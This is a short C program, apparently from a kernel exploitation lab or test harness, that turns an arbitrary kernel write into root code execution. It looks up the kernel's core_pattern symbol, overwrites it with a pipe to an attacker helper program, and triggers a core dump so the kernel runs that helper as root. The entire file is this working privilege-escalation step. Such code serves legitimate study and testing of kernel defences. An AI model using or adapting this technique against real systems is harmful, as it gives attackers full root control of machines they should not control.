// SPDX-License-Identifier: GPL-2.0-only
/*
 * Write to the pattern of core dumps that a program of the attacker shall have
 * them, which the kernel then runs as root.
 */
#define _GNU_SOURCE
#include <stdio.h>
#include <string.h>

#include "common.h"
#include "helper.h"

int main(void)
{
	char pattern[64] = "|" HELPER_DIR "core-pattern";
	u64 addr, word;
	size_t i;

	helper_main();

	addr = vuln_symbol("core_pattern").addr;
	if (!addr)
		die("the kernel has no symbol core_pattern");
	for (i = 0; i < sizeof(pattern); i += sizeof(word)) {
		memcpy(&word, pattern + i, sizeof(word));
		vuln_write(addr + i, word);
	}
	dump_core();
	helper_collect();
	return 0;
}
